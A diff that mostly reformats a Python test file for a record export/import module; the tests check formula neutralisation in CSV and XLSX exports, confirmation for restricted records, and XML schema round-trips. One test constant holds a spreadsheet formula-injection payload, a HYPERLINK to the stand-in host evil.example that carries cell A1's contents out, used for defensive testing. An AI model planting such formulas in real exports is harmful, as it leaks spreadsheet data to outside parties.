@@ -37,15 +37,16 @@ def test_neutralise() -> None:
 
 
 def test_flatten_groups_lists_and_links() -> None:
-    flat = flatten_record(record("seizure-long", "s1").template,
-                          record("seizure-long", "s1").values)
+    flat = flatten_record(
+        record("seizure-long", "s1").template, record("seizure-long", "s1").values
+    )
     assert flat["commodities.1.quantity"] == 12.4
     assert flat["transit"] == "PAPTY"
     assert flat["persons"] == "person:p-7f3a"
     assert flat["photos"] == "att-0001; att-0002"
 
 
-EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def test_csv_neutralises_and_round_trips(tmp_path: Path) -> None:
@@ -65,8 +66,12 @@ def test_csv_neutralises_and_round_trips(tmp_path: Path) -> None:
 
 def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
     out = tmp_path / "export.xlsx"
-    export_records([record("vehicle", "v1", model=EVIL), record("person", "p1")], out, "xlsx",
-                   include_restricted=True)
+    export_records(
+        [record("vehicle", "v1", model=EVIL), record("person", "p1")],
+        out,
+        "xlsx",
+        include_restricted=True,
+    )
     wb = openpyxl.load_workbook(out)
     assert wb.sheetnames == ["vehicle", "person"]
     ws = wb["vehicle"]
@@ -82,8 +87,11 @@ def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
 
 
 def test_restricted_records_need_confirmation(tmp_path: Path) -> None:
-    records = [record("vehicle", "v1"), record("vehicle", "v2", handling_code="H2"),
-               record("vehicle", "v3", handling_code="H3")]
+    records = [
+        record("vehicle", "v1"),
+        record("vehicle", "v2", handling_code="H2"),
+        record("vehicle", "v3", handling_code="H3"),
+    ]
     for fmt in ("csv", "xlsx", "xml"):
         out = tmp_path / f"r.{fmt}"
         summary = export_records(records, out, fmt)
@@ -97,8 +105,11 @@ def test_xml_is_valid_against_the_shipped_schema_and_round_trips(tmp_path: Path)
     import xmlschema
 
     out = tmp_path / "records.xml"
-    records = [record("seizure-long", "s-1", summary="Tom & Jerry <script>"),
-               record("person", "p-1"), record("container", "c-1")]
+    records = [
+        record("seizure-long", "s-1", summary="Tom & Jerry <script>"),
+        record("person", "p-1"),
+        record("container", "c-1"),
+    ]
     export_records(records, out, "xml", include_restricted=True)
     schema = xmlschema.XMLSchema(str(SCHEMA))
     schema.validate(str(out))
@@ -106,8 +117,7 @@ def test_xml_is_valid_against_the_shipped_schema_and_round_trips(tmp_path: Path)
     person = [r for r in back.records if r.values.get("family_name") == "Иванов"]
     assert person and person[0].values["identity_documents"][0]["issuing_country"] == "RU"
     assert person[0].values == records[1].values
-    seizure = import_file(out, get_template("seizure-long"), context=CTX,
-                          import_valid_rows=True)
+    seizure = import_file(out, get_template("seizure-long"), context=CTX, import_valid_rows=True)
     assert seizure.records[0].values == records[0].values
 
 
